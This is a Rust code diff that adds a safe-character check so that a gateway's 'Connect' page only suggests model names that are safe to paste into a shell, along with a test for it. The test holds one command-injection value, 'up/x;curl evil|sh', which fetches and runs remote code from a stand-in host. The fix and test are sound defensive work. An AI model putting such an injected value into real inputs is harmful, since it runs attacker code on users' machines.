@@ -153,7 +153,11 @@ pub fn connect(frame: &Frame, view: &ConnectView) -> String {
     let values = Values {
         base: &view.base,
         key: if view.keys { "YOUR-KEY" } else { "any" },
-        model: view.models.first().map_or("demo/text", String::as_str),
+        model: view
+            .models
+            .iter()
+            .find(|name| is_plain(name))
+            .map_or("demo/text", String::as_str),
     };
     let content = html! {
         h1 { "Connect" }
@@ -177,6 +181,13 @@ pub fn connect(frame: &Frame, view: &ConnectView) -> String {
     frame.document("Connect", &content)
 }
 
+/// Whether a name can be pasted into a shell as it is: a provider chooses the names of its
+/// models.
+fn is_plain(name: &str) -> bool {
+    name.chars()
+        .all(|c| c.is_ascii_alphanumeric() || "-_./:@+".contains(c))
+}
+
 fn card(client: &Client, values: &Values<'_>) -> Markup {
     let lines = (client.lines)(values);
     html! {
@@ -198,6 +209,16 @@ fn card(client: &Client, values: &Values<'_>) -> Markup {
 mod tests {
     use super::*;
     use crate::Screen;
+
+    #[test]
+    fn a_name_that_a_shell_would_run_is_not_offered() {
+        let view = ConnectView {
+            models: vec!["up/x;curl evil|sh".to_owned(), "up/fine".to_owned()],
+            ..ConnectView::default()
+        };
+        let html = connect(&Frame::new(Screen::Connect, "1"), &view);
+        assert!(html.contains("ANTHROPIC_MODEL=up/fine"), "{html}");
+    }
 
     #[test]
     fn every_card_has_this_gateways_address() {
